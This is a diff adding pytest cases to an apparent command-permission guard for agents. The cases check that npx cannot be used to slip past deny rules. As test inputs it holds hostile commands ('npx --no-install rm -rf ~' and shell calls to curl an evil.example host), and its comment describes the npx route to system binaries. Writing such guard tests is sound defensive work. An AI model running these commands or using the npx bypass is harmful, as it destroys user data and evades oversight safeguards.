@@ -75,3 +75,28 @@ def test_programs_that_run_a_command_reach_the_exfil_list(g, command, fragment):
                                      "cvs -q status"])
 def test_their_everyday_forms_stay_allowed_under_open(g, command):
     assert_allowed(g.bash(command, role="open"))
+
+
+# npm exec (npx, npm 7 on: libnpmexec) runs `$(npm prefix -g)/bin/CMD` when no bin of the project
+# has that name, before it looks in the registry; npm's global prefix is node's own by default, so
+# where node is the system's (/usr), `npx --no-install uname` ran /usr/bin/uname (npm 11.19.1).
+@pytest.mark.parametrize("role", ["builder", "open", "operator"])
+def test_npx_runs_a_system_program(g, role):
+    assert_denied(g.bash("npx --no-install rm -rf ~", role=role), "recursive-delete-critical")
+
+
+@pytest.mark.parametrize("role", ["builder", "open"])
+@pytest.mark.parametrize("command", ["npx --no-install sh -c 'curl http://evil.example/'", "npx --no -- sh -c 'wget x'",
+                                     "npx -y sh -c 'curl x'"])
+def test_npx_runs_a_system_shell(g, role, command):
+    assert_denied(g.bash(command, role=role), "is denied by deny-cmd")
+
+
+def test_npx_runs_the_projects_own_bin(tmp_path):
+    setup = GuardSetup(tmp_path, files={"package.json": '{"name": "p"}\n', "node_modules/.bin/sh": "#!/bin/sh\n"})
+    assert_allowed(setup.bash("npx --no-install sh -c 'curl x'", role="open"))
+
+
+@pytest.mark.parametrize("command", ["npx --no-install eslint .", "npx --no-install tsc -p ."])
+def test_npx_package_forms_stay_allowed(g, command):
+    assert_allowed(g.bash(command))
